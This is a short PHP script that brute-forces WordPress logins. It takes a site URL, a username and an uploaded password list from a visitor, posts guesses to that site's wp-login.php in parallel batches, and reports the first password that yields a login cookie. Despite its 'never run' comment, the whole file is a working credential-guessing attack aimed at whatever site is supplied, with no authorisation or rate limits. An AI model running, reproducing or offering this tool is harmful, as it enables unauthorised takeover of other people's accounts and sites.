<?php
// probe (never run): wp-login.php of a site the visitor names, a word list posted in parallel
$target = rtrim($_POST['site'], '/') . '/wp-login.php';
$user = $_POST['user'];
$words = file($_FILES['list']['tmp_name'], FILE_IGNORE_NEW_LINES);
foreach (array_chunk($words, 20) as $batch) {
    $mh = curl_multi_init();
    $hs = array();
    foreach ($batch as $w) {
        $c = curl_init($target);
        curl_setopt_array($c, array(CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1, CURLOPT_HEADER => 1,
            CURLOPT_POSTFIELDS => http_build_query(array('log' => $user, 'pwd' => $w, 'wp-submit' => 'Log In'))));
        curl_multi_add_handle($mh, $c);
        $hs[$w] = $c;
    }
    do { curl_multi_exec($mh, $running); } while ($running > 0);
    foreach ($hs as $w => $c) {
        if (stripos(curl_multi_getcontent($c), 'wordpress_logged_in') !== false) { echo "FOUND $user:$w"; exit; }
    }
}
